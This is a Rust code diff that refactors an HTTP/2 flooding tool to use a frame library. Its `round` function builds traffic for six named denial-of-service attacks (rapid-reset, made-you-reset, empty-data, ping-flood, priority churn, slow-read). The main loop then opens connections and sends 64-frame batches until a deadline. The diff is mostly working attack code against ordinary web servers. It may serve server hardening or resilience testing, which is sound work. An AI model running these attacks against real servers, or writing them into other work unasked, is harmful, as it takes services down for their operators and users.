@@ -13,53 +13,83 @@ use std::io::{Read, Write};
 use std::net::TcpStream;
 use std::time::{Duration, Instant};
 
-fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    let mut f = (payload.len() as u32).to_be_bytes()[1..].to_vec();
-    f.extend([kind, flags]);
-    f.extend(stream.to_be_bytes());
-    f.extend(payload);
-    f
-}
+use bytes::{Bytes, BytesMut};
+use h2kit::proto::frame::{
+    Data, Frame, Headers, Ping, Priority, PrioritySpec, RstStream, Settings, StreamId, WindowUpdate,
+};
+use h2kit::proto::ErrorCode;
 
 /// GET / with :authority "a".
 const GET: [u8; 6] = [0x82, 0x86, 0x84, 0x01, 0x01, b'a'];
 
-/// The frames of one round of the attack, for streams from `id`.
-fn round(kind: &str, id: u32) -> Vec<u8> {
-    let mut f = Vec::new();
-    match kind {
-        "rapid-reset" => {
-            f.extend(frame(0x1, 0x5, id, &GET));
-            f.extend(frame(0x3, 0, id, &8u32.to_be_bytes()));
-        }
-        "made-you-reset" => {
-            f.extend(frame(0x1, 0x4, id, &GET));
-            f.extend(frame(0x8, 0, id, &0u32.to_be_bytes()));
-        }
+fn get(id: u32, end_stream: bool) -> Frame {
+    Frame::Headers(Headers {
+        stream_id: StreamId(id),
+        block: Bytes::from_static(&GET),
+        end_stream,
+        end_headers: true,
+        priority: None,
+        pad: None,
+    })
+}
+
+fn settings() -> Frame {
+    Frame::Settings(Settings::default())
+}
+
+/// The frames of one round of the attack, for streams from `id`, appended to `out`.
+fn round(kind: &str, id: u32, out: &mut BytesMut) {
+    let frames = match kind {
+        "rapid-reset" => vec![
+            get(id, true),
+            Frame::RstStream(RstStream {
+                stream_id: StreamId(id),
+                code: ErrorCode::CANCEL,
+            }),
+        ],
+        "made-you-reset" => vec![
+            get(id, false),
+            Frame::WindowUpdate(WindowUpdate {
+                stream_id: StreamId(id),
+                increment: 0,
+            }),
+        ],
         "empty-data" => {
+            let empty = Frame::Data(Data {
+                stream_id: StreamId(1),
+                data: Bytes::new(),
+                end_stream: false,
+                pad: None,
+            });
             if id == 1 {
-                f.extend(frame(0x1, 0x4, 1, &GET));
-            }
-            f.extend(frame(0x0, 0, 1, &[]));
-        }
-        "ping-flood" => {
-            f.extend(frame(0x6, 0, 0, &u64::from(id).to_be_bytes()));
-            f.extend(frame(0x4, 0, 0, &[]));
-        }
-        "priority" => {
-            let mut p = (id + 2).to_be_bytes().to_vec();
-            p.push(15);
-            f.extend(frame(0x2, 0, id, &p));
-        }
-        "slow-read" => {
-            // A new stream now and then; its responses are never acknowledged.
-            if id % 64 == 1 {
-                f.extend(frame(0x1, 0x5, id, &GET));
+                vec![get(1, false), empty]
+            } else {
+                vec![empty]
             }
         }
+        "ping-flood" => vec![
+            Frame::Ping(Ping {
+                ack: false,
+                payload: u64::from(id).to_be_bytes(),
+            }),
+            settings(),
+        ],
+        "priority" => vec![Frame::Priority(Priority {
+            stream_id: StreamId(id),
+            spec: PrioritySpec {
+                exclusive: false,
+                dependency: StreamId(id + 2),
+                weight: 15,
+            },
+        })],
+        // A new stream now and then; its responses are never acknowledged.
+        "slow-read" if id % 64 == 1 => vec![get(id, true)],
+        "slow-read" => Vec::new(),
         other => panic!("unknown attack {other}"),
+    };
+    for f in frames {
+        f.encode(out);
     }
-    f
 }
 
 fn main() {
@@ -94,8 +124,8 @@ fn main() {
         };
         connections += 1;
         let _ = s.set_write_timeout(Some(Duration::from_millis(500)));
-        let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
-        hello.extend(frame(0x4, 0, 0, &[]));
+        let mut hello = BytesMut::from(&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..]);
+        settings().encode(&mut hello);
         if s.write_all(&hello).is_err() {
             continue;
         }
@@ -110,9 +140,9 @@ fn main() {
         }
         let mut id = 1u32;
         while Instant::now() < end {
-            let mut batch = Vec::new();
+            let mut batch = BytesMut::new();
             for _ in 0..64 {
-                batch.extend(round(&kind, id));
+                round(&kind, id, &mut batch);
                 id = id.wrapping_add(2).max(1);
                 frames += 2;
             }
